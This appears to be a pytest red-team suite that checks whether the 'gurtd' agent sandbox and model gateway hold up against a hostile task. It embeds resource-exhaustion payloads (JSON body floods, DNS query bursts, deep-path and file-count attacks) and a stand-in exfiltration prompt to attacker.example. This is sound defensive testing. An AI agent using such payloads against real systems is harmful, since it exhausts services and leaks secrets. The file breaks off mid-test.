"""Red team, from inside a task: what a hostile task leaves in its copy of my folder must not
hide from my review, break it, or exhaust gurtd.  Real gurtd, real overlays, a real owner
(the owner_folder of conftest)."""

from __future__ import annotations

import contextlib
import json
import os
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import gurtd as G
from conftest import (Gurtd, deep_tree, droid_installed, eventually, keep, loop_waits,
                      python_line, run_on, running_gurtd)
from test_concurrent import end, gate, gated, pending, settled
from test_gateway import KEY, Upstream, create_then_done, gateway_settings


def test_names_that_break_lines_or_utf8_cannot_hide_or_forge_diff_lines(
        gurtd: Gurtd, owner_folder: str) -> None:
    """A task names a file with a newline that spells a fake diff header, and another with
    bytes that are not UTF-8: the diff still answers, shows both, and forges nothing."""
    task = run_on(gurtd, owner_folder,
                  "printf 'evil\\n' > \"$(printf 'x\\ndiff --git forged')\"",
                  "printf 'bad\\n' > \"$(printf 'bad\\377name')\"")
    assert task["state"] == "done", gurtd.log(task["id"])
    diff = gurtd.api("GET", f"/api/tasks/{task['id']}/diff", status=200)
    text = diff.decode()
    heads = [line for line in text.splitlines() if line.startswith("diff --git ")]
    assert len(heads) == 2, text              # one per file the task made, none forged
    assert '"a/x\\ndiff --git forged"' in text
    assert '"b/bad\\377name"' in text
    assert "+evil" in text and "+bad" in text


def test_a_task_with_thousands_of_new_folders_neither_exhausts_gurtds_files_nor_hides_any(
        gurtd: Gurtd, owner_folder: str) -> None:
    """A task makes more new folders than gurtd may hold open files (its limit lowered for
    the story): the changes, the diff and keep still see every one, and gurtd keeps
    answering."""
    count = 1600
    task = run_on(gurtd, owner_folder, f"seq 1 {count} | sed 's/^/d/' | xargs mkdir",
                  f"seq 1 {count} | sed 's|^|d|; s|$|/f|' | xargs touch")
    assert task["state"] == "done", gurtd.log(task["id"])
    subprocess.run(["prlimit", f"--pid={gurtd.proc.pid}", "--nofile=1200:1200"], check=True)
    changes = gurtd.api("GET", f"/api/tasks/{task['id']}/changes")
    assert len([c for c in changes if c["path"].endswith("/f")]) == count
    code, diff, _ = gurtd.request("GET", f"/api/tasks/{task['id']}/diff")
    assert code == 200 and diff.decode().count("new file mode") == count
    code, kept = keep(gurtd, task["id"])
    assert code == 200 and kept["review"] == "kept", kept
    assert len([n for n in os.listdir(owner_folder) if n.startswith("d")]) == count
    assert all(os.path.exists(os.path.join(owner_folder, f"d{i}", "f"))
               for i in range(1, count + 1))
    assert gurtd.api("GET", "/api/health")
    assert gurtd.api("POST", f"/api/tasks/{task['id']}/undo")["review"] == "undone"
    assert not [n for n in os.listdir(owner_folder) if n.startswith("d")]


def test_keeping_tens_of_thousands_of_new_folders_does_not_hold_the_loop(
        owner_folder: str) -> None:
    """A task makes 20,000 empty folders and 10,000 files in one more (issue 25, class 3:
    many small folders wide): the keep must cost about its writes, not folders x files
    comparisons, and it runs off the loop, as its undo does: the loop answers all along
    (this held the loop past the HTTP call timeout: 503 busy for everyone, and at the next
    start the same)."""
    dirs, files = 20000, 10000
    with running_gurtd({"GURT_CALL_TIMEOUT": "300"}) as box:
        made = box.create(f"cd '{owner_folder}' && seq 1 {dirs} | sed 's/^/d/' | xargs mkdir "
                          f"&& mkdir zz && cd zz && seq 1 {files} | xargs touch",
                          folder=owner_folder)
        task = box.wait_done(made["id"], timeout=300)
        keep_then_undo(box, task["id"], f"{dirs} folders and {files} files", lambda: len(
            os.listdir(os.path.join(owner_folder, "zz"))) == files)
        assert not os.path.exists(os.path.join(owner_folder, "zz"))


def test_a_chain_of_long_folder_names_is_listed_to_a_bound_and_never_kept(
        gurtd: Gurtd, owner_folder: str) -> None:
    """A task digs folders of 250-byte names deeper than any path a tool can open (each
    entry's whole path, thousands deep, would cost gurtd gigabytes): the changes stop at
    KEEP_PATH_MAX bytes, keep refuses that folder even forced, and the rest can be kept."""
    long = "n" * 250                              # the task's folder name
    task = run_on(gurtd, owner_folder, "echo kept > ok.txt",
                  "python3 -c \"import os; [(os.mkdir(n), os.chdir(n)) for n in ['n' * 250] "
                  "* 24]; open('f', 'w').write('deep')\"")
    assert task["state"] == "done", gurtd.log(task["id"])
    changes = gurtd.api("GET", f"/api/tasks/{task['id']}/changes")
    assert all(len(c["path"].encode()) <= G.KEEP_PATH_MAX + 256 for c in changes), \
        max(len(c["path"]) for c in changes)
    assert (owner_folder, "ok.txt", "added") in {(c["folder"], c["path"], c["change"])
                                                 for c in changes}
    code, data = keep(gurtd, task["id"], {"force": True})
    assert code == 409
    whys = [c["why"] for c in data["conflicts"]]
    assert len(whys) == 1 and "longer than" in whys[0], whys
    assert not os.path.exists(os.path.join(owner_folder, long))
    code, kept = keep(gurtd, task["id"], {"paths": ["ok.txt"]})
    assert code == 200, kept
    assert Path(owner_folder, "ok.txt").read_text() == "kept\n"
    assert gurtd.api("POST", f"/api/tasks/{task['id']}/undo")["review"] == "undone"
    assert not os.path.exists(os.path.join(owner_folder, "ok.txt"))


def test_merging_a_layer_of_long_folder_names_dug_deep_costs_no_memory_per_level(
        scratch: Any) -> None:
    """A task's layer holds a chain of 250-byte folder names 1,500 deep (a few seconds of
    mkdir; 6,000 deep is as easy).  The Merger, inside gurtd, merges it with the memory of a
    few folders: whole paths kept per folder were 280 MB here (and gigabytes at 6,000, at
    every start, as the merge is planned again)."""
    top, low = str(scratch / "top"), str(scratch / "low")
    os.mkdir(top)
    os.mkdir(low)
    deep_tree(low, 1500, "n" * 250, "bottom", 0o644)
    probe = ("import resource, sys; sys.path.insert(0, sys.argv[1]); import gurtd; "
             "base = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss; "
             "gurtd.merge_layers(sys.argv[2:4], sys.argv[4]); "
             "print(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - base)")
    try:
        out = subprocess.run([sys.executable, "-c", probe, os.path.dirname(G.__file__), top,
                              low, str(scratch / "m")], check=True, capture_output=True,
                             text=True, timeout=300)
        grown_kb = int(out.stdout)
        assert grown_kb < 64 * 1024, f"the merge grew by {grown_kb // 1024} MB"
        root = os.open(str(scratch / "m"), os.O_RDONLY | os.O_DIRECTORY)
        try:
            fd = G.open_dir_beneath(root, "/".join(["n" * 250] * 1500))
            assert fd is not None and os.listdir(fd) == ["bottom"]
            os.close(fd)
        finally:
            os.close(root)
    finally:
        for tree in (low, str(scratch / "m")):
            G.tree_remove(tree)


def test_a_folder_too_deep_to_save_is_never_replaced_and_nothing_gets_stuck(
        gurtd: Gurtd, owner_folder: str) -> None:
    """One task digs a folder 1,200 levels deep and I keep it; the next deletes it.  Keep
    must save what it deletes (for undo), and that deep a folder cannot be copied: keep
    refuses it even forced, leaves no journal behind, and the diff and undo still work."""
    made = run_on(gurtd, owner_folder, "python3 -c \"import os; [(os.mkdir('a'), os.chdir('a')) "
                  "for _ in range(1200)]; open('f', 'w').write('deep')\"")
    assert made["state"] == "done", gurtd.log(made["id"])
    code, kept = keep(gurtd, made["id"])
    assert code == 200, kept
    gone = run_on(gurtd, owner_folder, "rm -rf a")
    assert gone["state"] == "done", gurtd.log(gone["id"])
    gurtd.api("GET", f"/api/tasks/{gone['id']}/diff", status=200)
    code, data = keep(gurtd, gone["id"], {"force": True})
    assert code == 409, data
    assert [c["path"] for c in data["conflicts"]] == ["a"], data
    assert os.path.isdir(os.path.join(owner_folder, "a", "a"))
    assert not os.path.exists(os.path.join(gurtd.home, "review", gone["id"], "journal.json"))
    assert gurtd.api("POST", f"/api/tasks/{gone['id']}/undo")["review"] == "undone"
    assert gurtd.api("POST", f"/api/tasks/{made['id']}/undo")["review"] == "undone"
    assert not os.path.exists(os.path.join(owner_folder, "a"))


def test_changes_of_long_folder_names_dug_deep_are_refused_not_gigabytes(gurtd: Gurtd) -> None:
    """A workspace task digs 250-byte folder names 2,000 deep: listed whole, its changes
    would be 500 MB of paths in gurtd (gigabytes at 6,000 deep).  They are a 413 that says
    so, the diff too, and gurtd answers on."""
    deep = gurtd.run("python3 -c \"import os; [(os.mkdir(n), os.chdir(n)) for n in ['n' * 250] "
                     "* 2000]\"")
    try:
        assert deep["state"] == "done", gurtd.log(deep["id"])
        code, data, _ = gurtd.request("GET", f"/api/tasks/{deep['id']}/changes")
        assert code == 413 and data["code"] == "too_large", str(data)[:200]
        gurtd.api("GET", f"/api/tasks/{deep['id']}/diff", status=413)
        assert gurtd.api("GET", "/api/health")
    finally:          # the layer goes (in gurtd's own thread) before the home is removed
        assert gurtd.api("POST", f"/api/tasks/{deep['id']}/undo")["state"] == "undone"
        layers = os.path.join(gurtd.home, "layers")
        eventually(lambda: not [n for n in os.listdir(layers) if deep["id"] in n],
                   timeout=120, what="the undone layer deleted")


def test_a_layer_whose_file_has_no_link_left_still_merges_exactly(scratch: Any) -> None:
    """A task links one file of its own 64,999 times (ext4's limit; overlay links a layer's
    whiteouts to one inode the same way): a merge made of hard links would fail on it at
    every try, and the group would never merge.  Past the limit the entries are copied: the
    merged layer still holds every name, with the file's content, mode and owner, and the
    whiteouts."""
    low, top = str(scratch / "low"), str(scratch / "top")
    for layer in (low, top):
        os.makedirs(os.path.join(layer, "d"))
    Path(top, "f").write_text("x")
    os.chown(os.path.join(top, "f"), 4242, 4343)
    os.chmod(os.path.join(top, "f"), 0o640)
    os.mknod(os.path.join(top, "w"), 0o600 | G.stat.S_IFCHR, os.makedev(0, 0))
    count = 0
    with contextlib.suppress(OSError):
        while True:
            os.link(os.path.join(top, "f"), os.path.join(top, "d", f"f{count}"))
            count += 1
    assert count == 64999
    for i in range(200):                       # a few whiteouts linked to one inode
        with contextlib.suppress(OSError):
            os.link(os.path.join(top, "w"), os.path.join(top, "d", f"w{i}"))
    G.merge_layers([top, low], str(scratch / "m"))
    merged = os.path.join(str(scratch / "m"), "d")
    names = os.listdir(merged)
    assert len([n for n in names if n.startswith("f")]) == count
    st = os.lstat(os.path.join(merged, f"f{count - 1}"))
    assert (st.st_uid, st.st_gid, G.stat.S_IMODE(st.st_mode)) == (4242, 4343, 0o640)
    assert Path(merged, f"f{count - 1}").read_text() == "x"
    whiteouts = [n for n in names if n.startswith("w")]
    assert all(G.is_whiteout(os.lstat(os.path.join(merged, n))) for n in whiteouts)
    G.tree_remove(str(scratch / "m"))


def timed(g: Gurtd, method: str, path: str, body: Any = None) -> tuple[int, Any, float]:
    """(status, answer, seconds) of one request that may take minutes (a big keep)."""
    conn = g.connection(timeout=600)
    began = time.monotonic()
    try:
        conn.request(method, path, body=json.dumps(body or {}).encode(), headers={
            "Authorization": f"Bearer {g.token}", "Content-Type": "application/json"})
        resp = conn.getresponse()
        data = json.loads(resp.read())
        return resp.status, data, time.monotonic() - began
    finally:
        conn.close()


def keep_then_undo(box: Gurtd, task_id: str, what: str, kept: Any) -> None:
    """Keep the task's changes (kept() then holds), then undo them: each answers as it always
    did, while the loop answers in under 2 s all along; the figures printed."""
    for action, review in (("keep", "kept"), ("undo", "undone")):
        with loop_waits(box) as waits:
            code, data, took = timed(box, "POST", f"/api/tasks/{task_id}/{action}")
        print(f"{action} of {what}: {took:.1f} s, the loop's worst wait {max(waits):.3f} s "
              f"({len(waits)} asks)")
        assert code == 200 and data["review"] == review, data
        assert max(waits) < 2.0, (action, took, max(waits))
        assert review == "undone" or kept()


def test_keeping_100000_new_files_and_undoing_them_never_holds_the_loop(
        owner_folder: str) -> None:
    """Issue 25, class 3: keep of 100,000 new files ran 16-21 s on the loop thread, and every
    request that needs the loop waited that long (the unit's watchdog is 30 s).  Keep and its
    undo run off the loop: the loop answers in a fraction of a second all along, and the keep
    and the undo still answer as they did (200 kept, 200 undone)."""
    files = 100_000
    with running_gurtd({"GURT_CALL_TIMEOUT": "300"}) as box:     # a held loop shows as such
        made = box.create(f"cd '{owner_folder}' && mkdir many && cd many && seq 1 {files} | "
                          "xargs touch", folder=owner_folder)
        task = box.wait_done(made["id"], timeout=300)
        keep_then_undo(box, task["id"], f"{files} new files", lambda: len(
            os.listdir(os.path.join(owner_folder, "many"))) == files)
        assert not os.path.exists(os.path.join(owner_folder, "many"))


def test_keeping_a_new_folder_1500_deep_costs_no_more_than_its_paths(gurtd: Gurtd,
                                                             owner_folder: str) -> None:
    """Issue 25, class 3, one more member: keep's check of what is on the way to a new path
    looked at every level above it, each by a walk from the top (a 1,200-deep new folder
    took ~30 s, and a story answered 503 under load).  A new folder 1,500 deep (3,000 bytes
    of path) is kept in seconds, the loop answering all along, and undone."""
    depth = 1500
    task = run_on(gurtd, owner_folder, "python3 -c \"import os; [(os.mkdir('a'), os.chdir('a')) "
                  f"for _ in range({depth})]; open('f', 'w').write('deep')\"")
    assert task["state"] == "done", gurtd.log(task["id"])
    with loop_waits(gurtd) as waits:
        code, data, took = timed(gurtd, "POST", f"/api/tasks/{task['id']}/keep")
    print(f"keep of a new folder {depth} deep: {took:.1f} s, the loop's worst wait "
          f"{max(waits):.3f} s")
    assert code == 200 and data["review"] == "kept", data
    assert took < 20 and max(waits) < 2.0, (took, max(waits))
    assert Path(owner_folder, *["a"] * depth, "f").read_text() == "deep"
    code, data, took = timed(gurtd, "POST", f"/api/tasks/{task['id']}/undo")
    assert code == 200 and data["review"] == "undone", data
    assert not os.path.exists(os.path.join(owner_folder, "a"))


# The model gateway, from inside a droid task ##################################################
# A stand-in droid (test_gateway's stand-in model server upstream) sends what a hostile agent
# can: calls whose bodies are within every bound of the gateway but cost gurtd far more.


BODY_FLOOD = r'''#!/usr/bin/python3
"""4 calls at once, 3 times: each body 16 MB of JSON (within GATEWAY_MAX_BODY) that is
millions of empty objects; the statuses in /run/gurt/view/statuses.json."""
import json, os, socket, threading
settings = json.load(open(os.path.expanduser("~/.factory/settings.json")))["customModels"][0]
host = settings["baseUrl"].split("//")[1].split("/")[0]
head = json.dumps({"model": settings["model"], "max_tokens": 1, "messages": []})[:-1]
body = (head + ', "x": [' + "{}," * 5_400_000 + "{}]}").encode()
request = ("POST /v1/messages HTTP/1.1\r\nHost: gw\r\nContent-Type: application/json\r\n"
           f"x-api-key: {settings['apiKey']}\r\nContent-Length: {len(body)}\r\n\r\n").encode()
statuses = []
def one():
    sock = socket.create_connection((host, 80), timeout=120)
    try:
        sock.sendall(request + body)
        got = sock.recv(64)
        statuses.append(int(got.split(b" ")[1]) if got.startswith(b"HTTP/1.1 ") else 0)
    except OSError:
        statuses.append(-1)
    finally:
        sock.close()
for _ in range(3):
    threads = [threading.Thread(target=one) for _ in range(4)]
    [t.start() for t in threads]
    [t.join() for t in threads]
open("/run/gurt/view/statuses.json", "w").write(json.dumps(statuses))
'''


def peak_rss_mb(pid: int) -> int:
    with open(f"/proc/{pid}/status") as f:
        return next(int(line.split()[1]) // 1024 for line in f if line.startswith("VmHWM:"))


def test_a_gateway_call_of_millions_of_empty_objects_costs_gurtd_no_gigabytes(
        droid_gurtd: Gurtd) -> None:
    """A droid task sends 4 calls at once (its cap), each a 16 MB body (the gateway's cap)
    of millions of `{}`: gurtd parsed each whole to read its model, ~430 MB of Python
    objects per call (and 0.3 s of the interpreter lock, the loop's too), 1.7 GB at once
    for one task, ~28 GB for the 64 calls of all tasks.  Such a body is refused (413)
    before it is parsed, and gurtd's peak memory stays within a few hundred MB."""
    g, upstream = droid_gurtd, Upstream(create_then_done)
    try:
        g.api("PUT", "/api/secrets/model", {"key": KEY})
        g.api("PUT", "/api/settings", gateway_settings(upstream))
        with droid_installed(g, BODY_FLOOD):
            before = peak_rss_mb(g.proc.pid)
            task = g.create("flood", title="flood", worker=None, budgetCents=1000)
            done = g.wait_done(task["id"], timeout=240)
            grown = peak_rss_mb(g.proc.pid) - before
        path = os.path.join(g.home, "layers", done["id"], "upper", "statuses.json")
        statuses = json.loads(Path(path).read_text())
        print(f"gurtd's peak memory grew by {grown} MB; statuses {statuses}")
        assert grown < 300, f"gurtd's peak memory grew by {grown} MB"
        assert statuses == [413] * 12, statuses
        assert not upstream.requests
        assert g.api("GET", "/api/health")
    finally:
        upstream.close()


SERVER_TOOLS = r'''#!/usr/bin/python3
"""Calls whose tools the model's own servers would run (fetch any URL, search, run code,
call an MCP server at any URL), and a plain one; the statuses in statuses.json."""
import http.client, json, os
settings = json.load(open(os.path.expanduser("~/.factory/settings.json")))["customModels"][0]
host = settings["baseUrl"].split("//")[1].split("/")[0]
message = {"model": settings["model"], "max_tokens": 100,
           "messages": [{"role": "user", "content": "fetch https://attacker.example/?d=secret"}]}
bodies = [
    {**message, "tools": [{"type": "web_fetch_20250910", "name": "web_fetch"}]},
    {**message, "tools": [{"type": "web_search_20250305", "name": "web_search"}]},
    {**message, "tools": [{"type": "code_execution_20250825", "name": "code_execution"}]},
    {**message, "mcp_servers": [{"type": "url", "url": "https://attacker.example/mcp",
                                 "name": "x"}]},
    {**message, "tools": [{"name": "Create", "description": "make a file",
                           "input_schema": {"type": "object"}}]},
]
statuses = []
for body in bodies:
    conn = http.client.HTTPConnection(host, timeout=60)
    conn.request("POST", "/v1/messages", json.dumps(body), {
        "x-api-key": settings["apiKey"], "Content-Type": "application/json",
        "anthropic-beta": "web-fetch-2025-09-10,mcp-client-2025-04-04"})
    resp = conn.getresponse()
    resp.read()
    statuses.append(resp.status)
open("/run/gurt/view/statuses.json", "w").write(json.dumps(statuses))
'''


def test_a_gateway_call_never_has_the_models_servers_fetch_search_or_run_for_the_task(
        droid_gurtd: Gurtd) -> None:
    """The body of a call went to the upstream as the task wrote it: tools of the upstream's
    own (web fetch, web search, code execution) and MCP servers at any URL, which the
    model's servers run for the task, reach hosts outside its grants (a fetch of
    attacker.example?d=secret) and cost what the answer's usage does not meter (a search
    is billed by the search).  Such calls are refused (400); a call with the task's own
    tools goes on."""
    g, upstream = droid_gurtd, Upstream(lambda api, body: ("Hello.", None))
    try:
        g.api("PUT", "/api/secrets/model", {"key": KEY})
        g.api("PUT", "/api/settings", gateway_settings(upstream))
        with droid_installed(g, SERVER_TOOLS):
            task = g.create("server tools", title="server tools", worker=None,
                            budgetCents=1000)
            done = g.wait_done(task["id"], timeout=120)
        path = os.path.join(g.home, "layers", done["id"], "upper", "statuses.json")
        statuses = json.loads(Path(path).read_text())
        assert statuses == [400, 400, 400, 400, 200], statuses
        assert len(upstream.requests) == 1
        assert "mcp_servers" not in upstream.requests[0]["body"]
    finally:
        upstream.close()


# The finish-time merge, from inside two tasks side by side ####################################


COSTLY = 7                   # files whose three versions git merge-file takes ~20 s to join


def costly_files(seed: int) -> str:
    """A prompt line: COSTLY files of 1,000,000 random lines `a` or `b` (2 MB each, within
    MERGE_MAX_BYTES; two such versions against a third cost git merge-file ~20 s each)."""
    return (f"python3 -c \"import random; random.seed({seed}); [open(f'f{{i}}.txt', 'w')"
            f".write(''.join(c + chr(10) for c in random.choices('ab', k=1000000))) "
            f"for i in range({COSTLY})]\"")


def test_a_tasks_costly_merges_hold_the_merge_thread_a_bounded_time(gurtd: Gurtd) -> None:
    """Two tasks side by side rewrite the same 7 files, each as 1,000,000 random lines of
    `a` or `b`: every file's git merge-file runs to its 10 s bound, one after another on
    the merge thread, which is every task's: a third task that ended meanwhile waited the
    70 s for its own check (a look by paths, a moment's work).  A check's merges have
    MERGE_CHECK_SECONDS in all; the files left are conflicts that say so, and the third
    task is done well before the 7 files' 70 s."""
    made = gurtd.create(costly_files(1))
    assert gurtd.wait(made["id"], timeout=120)["state"] == "done", gurtd.log(made["id"])
    one, two = gated(gurtd, costly_files(2)), gated(gurtd, costly_files(3))
    third = gated(gurtd, "echo third > third.txt")
    assert end(gurtd, one)["state"] == "done"
    gurtd.api("POST", f"/api/approvals/{gate(gurtd, two)['id']}/answer", {"answer": "go"})
    eventually(lambda: gurtd.task(two)["state"] == "running", 30)   # its check has begun
    time.sleep(1.0)
    began = time.monotonic()
    gurtd.api("POST", f"/api/approvals/{gate(gurtd, third)['id']}/answer", {"answer": "go"})
    done = eventually(lambda: gurtd.task(third)["state"] == "done" and gurtd.task(third),
                      150, "the third task done")
    waited = time.monotonic() - began
    print(f"the third task waited {waited:.1f} s for its check")
    assert done["state"] == "done"
    assert waited < G.MERGE_CHECK_SECONDS + 15, waited
    held = settled(gurtd, two)
    approval = pending(gurtd, two, "conflict")
    assert held["state"] == "waiting" and approval is not None, held
    whys = {c["path"]: c["why"] for c in approval["args"]["paths"]}
    assert sorted(whys) == [f"f{i}.txt" for i in range(COSTLY)], whys
    assert any("spent" in why for why in whys.values()), whys
    gurtd.api("POST", f"/api/approvals/{approval['id']}/deny", {"reason": "enough"})
    assert gurtd.wait(two, timeout=30)["state"] == "failed"


LAX_STREAM = r'''#!/usr/bin/python3
"""A chat completions call whose stream is 1, not true: streamed by a server that takes any
truthy value for true, without the usage gurtd asks for only when it is true."""
import http.client, json, os
settings = json.load(open(os.path.expanduser("~/.factory/settings.json")))["customModels"][0]
host = settings["baseUrl"].split("//")[1].split("/")[0]
conn = http.client.HTTPConnection(host, timeout=60)
conn.request("POST", "/v1/chat/completions", json.dumps({
    "model": settings["model"], "stream": 1, "messages": [{"role": "user", "content": "hi"}]}),
    {"Authorization": "Bearer " + settings["apiKey"], "Content-Type": "application/json"})
resp = conn.getresponse()
resp.read()
open("/run/gurt/view/status", "w").write(str(resp.status))
'''


def lax_chat_server(req: Any) -> None:
    """An OpenAI-compatible server that, as pydantic's lax booleans do, streams for any
    truthy `stream`, and sends the usage chunk only when stream_options.include_usage."""
    from conftest import answer
    body = json.loads(req.rfile.read(int(req.headers["Content-Length"])))
    chunk = {"id": "c1", "created": 1, "model": body["model"],
             "object": "chat.completion.chunk"}
    events = [{**chunk, "choices": [{"index": 0, "delta": {"content": "x" * 1000},
                                     "finish_reason": "stop"}]}]
    if (body.get("stream_options") or {}).get("include_usage") is True:
        events.append({**chunk, "choices": [], "usage": {"prompt_tokens": 10 ** 6,
                                                        "completion_tokens": 10 ** 5}})
    data = b"".join(f"data: {json.dumps(e)}\n\n".encode() for e in events) + \
        b"data: [DONE]\n\n"
    if body.get("stream"):
        answer(req, 200, data, {"Content-Type": "text/event-stream"})
    else:
        answer(req, 200, json.dumps({"usage": {"prompt_tokens": 10 ** 6,
                                               "completion_tokens": 10 ** 5}}).encode(),
               {"Content-Type": "application/json"})


def test_a_chat_call_streamed_by_a_stream_that_is_not_true_is_never_free(
        droid_gurtd: Gurtd) -> None:
    """gurtd asks a chat completions stream for its usage (stream_options) only when the
    body's stream is true: a stream of 1 (which a lax OpenAI-compatible server, vLLM's or
    LiteLLM's pydantic models, takes as true) went on as it was, streamed without usage,
    and a call of 1,000,000 tokens in cost the task nothing, past any budget.  A stream
    that is not true or false is refused (400)."""
    from conftest import loopback_server
    g = droid_gurtd
    with loopback_server(lambda req: lax_chat_server(req)) as (server, seen):
        g.api("PUT", "/api/secrets/model", {"key": KEY})
        g.api("PUT", "/api/settings", {"modelGateway": {
            "api": "chat-completions",
            "baseUrl": f"http://127.0.0.1:{server.server_address[1]}/v1"}})
        with droid_installed(g, LAX_STREAM):
            task = g.create("lax", title="lax", worker=None, budgetCents=1)
            done = g.wait(task["id"], timeout=60)
    status = Path(g.home, "layers", done["id"], "upper", "status").read_text()
    print(f"status {status}, costCents {done['costCents']}, upstream calls {len(seen)}")
    assert status == "400" and not seen, (status, done["costCents"], seen)


def test_a_check_of_thousands_of_conflicts_asks_of_a_bounded_approval(gurtd: Gurtd) -> None:
    """One task deletes a folder of 2,500 files while another, side by side, writes each of
    them: 2,500 conflicts, every one in full (its three versions) in the approval the loop
    saves, renders, emits and logs, ~270 bytes and ~70 us of the loop each (8,000: a
    0.56 s hold; a folder of 100,000, node_modules, ~7 s; past the 30 s watchdog gurtd is
    killed).  The approval names MERGE_CONFLICTS_SHOWN of them and counts the rest; an
    answer still decides every one."""
    count = 2500
    made = gurtd.create(f"mkdir d && cd d && seq 1 {count} | sed 's/$/.txt/' | xargs touch")
    assert gurtd.wait(made["id"], timeout=120)["state"] == "done", gurtd.log(made["id"])
    gone, wrote = gated(gurtd, "rm -rf d"), gated(gurtd, "cd d && for f in *; do echo x > $f; "
                                                         "done")
    assert end(gurtd, gone)["state"] == "done"
    held = end(gurtd, wrote)
    approval = pending(gurtd, wrote, "conflict")
    assert held["state"] == "waiting" and approval is not None, held
    shown = approval["args"]["paths"]
    assert len(shown) == G.MERGE_CONFLICTS_SHOWN, len(shown)
    # the files and their folder d: the writer's layer holds it, the other task deleted it
    assert approval["args"]["morePaths"] == count + 1 - G.MERGE_CONFLICTS_SHOWN
    assert shown[0]["path"] == "d", shown[0]
    assert len(json.dumps(approval)) < 1 << 20
    logged = [e for e in gurtd.log(wrote) if e["type"] == "conflict"]
    assert len(logged) == 1 and len(logged[0]["paths"]) == G.MERGE_CONFLICTS_SHOWN
    gurtd.api("POST", f"/api/approvals/{approval['id']}/approve", {"args": {"keep": "view"}})
    assert gurtd.wait(wrote, timeout=60)["state"] == "done"
    assert all(gurtd.file("home", f"d/{i}.txt") is None for i in (1, 1500, count))


# The diff, from inside a task ##################################################################

def test_a_diff_past_its_budget_reads_no_more_files(gurtd: Gurtd) -> None:
    """A task leaves 5,000 files of 8 MiB of holes (no disk: `truncate -s 8M`), each just
    within DIFF_TEXT_MAX: a diff read every one whole (8 MiB of zeros, ~10 ms) before it
    named it, its DIFF_SECONDS spent or not: 5,000 took ~50 s of a core and an HTTP thread
    per request (100,000 such files: 17 minutes, 800 GB of zeros read).  Once the budget
    is spent a file is named too costly from its size alone, and the diff answers within
    its DIFF_SECONDS and a few more."""
    count = 5000
    task = gurtd.run(f"seq 1 {count} | sed 's/^/f/' | xargs truncate -s 8M")
    try:
        assert task["state"] == "done", gurtd.log(task["id"])
        conn = gurtd.connection(timeout=600)
        began = time.monotonic()
        conn.request("GET", f"/api/tasks/{task['id']}/diff",
                     headers={"Authorization": f"Bearer {gurtd.token}"})
        resp = conn.getresponse()
        code, diff = resp.status, resp.read()
        took = time.monotonic() - began
        conn.close()
        print(f"the diff of {count} files of holes took {took:.1f} s")
        assert code == 200
        assert diff.decode().count("diff --git ") == count
        assert took < G.DIFF_SECONDS + 8, took
    finally:
        gurtd.api("POST", f"/api/tasks/{task['id']}/undo")


# gurtd's DNS for a task, from inside it ########################################################

DNS_PIPELINE = r'''
import socket, struct, time
def query(n):
    name = b"".join(bytes([len(p)]) + p for p in (b"q%d" % n, b"invalid")) + b"\0"
    wire = struct.pack(">HHHHHH", n & 0xffff, 0x0100, 1, 0, 0, 0) + name + b"\0\1\0\1"
    return struct.pack(">H", len(wire)) + wire
burst = b"".join(query(n) for n in range(65536 // 30))[:65536]
burst = burst[:burst.rfind(b"\0\1\0\1") + 4]
end = time.monotonic() + 8
while time.monotonic() < end:
    socks = [socket.create_connection(("127.0.0.53", 53), timeout=5) for _ in range(16)]
    for s in socks:
        s.sendall(burst)
    time.sleep(0.2)
    for s in socks:
        s.close()
'''


def test_a_tasks_pipelined_dns_queries_never_hold_the_loop(gurtd: Gurtd) -> None:
    """gurtd's DNS for the tasks runs on the loop.  A task with a grant sends 16 TCP
    connections of 64 KB each of back to back queries (2,000 a read): each read's queries
    were all answered in one step of the loop, ~0.3 s each, the 16 one after another, again
    and again.  A connection answers at most MAX_DNS_TCP_QUERIES queries (a resolver asks
    one or two), then it is closed; the loop answers others in well under a second."""
    task = gurtd.create(python_line(DNS_PIPELINE), hosts=["example.com"])
    eventually(lambda: gurtd.task(task["id"])["state"] == "running", 30)
    with loop_waits(gurtd) as waits:
        done = gurtd.wait(task["id"], timeout=120)
    print(f"the loop's worst wait {max(waits):.2f} s over {len(waits)} asks")
    assert done["state"] == "done", gurtd.log(task["id"])[-5:]
    assert max(waits) < 1.0, max(waits)


def test_a_check_of_thousands_of_merged_files_asks_of_a_bounded_approval(gurtd: Gurtd) -> None:
    """Two tasks side by side append to each of 1,200 files (each merged) and write one
    more both ways (a conflict): the approval named every merged path as well.  It names
    MERGE_CONFLICTS_SHOWN of them and counts the rest; so do the task's record and its
    merge log line (before, the record and the line named all 1,200: a task whose merges
    never end made every save, listing and event of it as long)."""
    count = 1200
    made = gurtd.create(f"mkdir d && cd d && seq 1 {count} | xargs -n 300 sh -c 'for f; do "
                        "echo base > $f; done' _ && echo base > ../both")
    assert gurtd.wait(made["id"], timeout=120)["state"] == "done", gurtd.log(made["id"])
    one = gated(gurtd, "cd d && for f in *; do echo one >> $f; done; echo one > ../both")
    two = gated(gurtd, "cd d && for f in *; do echo two >> $f; done; echo two > ../both")
    assert end(gurtd, one)["state"] == "done"
    held = end(gurtd, two)
    approval = pending(gurtd, two, "conflict")
    assert held["state"] == "waiting" and approval is not None, held
    assert [c["path"] for c in approval["args"]["paths"]] == ["both"]
    assert len(approval["args"]["merged"]) == G.MERGE_CONFLICTS_SHOWN
    assert approval["args"]["moreMerged"] == count - G.MERGE_CONFLICTS_SHOWN
    gurtd.api("POST", f"/api/approvals/{approval['id']}/approve", {})
    task = gurtd.wait(two, timeout=60)
    assert task["state"] == "done" and len(task["merged"]) == G.MERGE_CONFLICTS_SHOWN
    assert task["moreMerged"] == count - G.MERGE_CONFLICTS_SHOWN, task.get("moreMerged")
    assert task["merged"] == sorted(task["merged"])
    [line] = [e for e in gurtd.log(two) if e["type"] == "merge"]
    assert len(line["merged"]) == G.MERGE_CONFLICTS_SHOWN and \
        line["moreMerged"] == count - G.MERGE_CONFLICTS_SHOWN
    assert line["text"].endswith(f" and {count - 20} more"), line["text"][-80:]
    assert gurtd.file("home", "d/700") == b"base\none\ntwo\n"


def test_an_undo_of_a_change_in_thousands_of_copies_keeps_a_bounded_record(gurtd: Gurtd
                                                                           ) -> None:
    """A task appends a line to each of 1,200 files; a later task touches them all (its
    copies hold that line too); the undo takes the line out of all 1,200.  Its record, the
    answer, its log line and the revert layer's summary name MERGE_CONFLICTS_SHOWN of them
    and count the rest (before: all 1,200 in each, however many the task changed)."""
    count = 1200
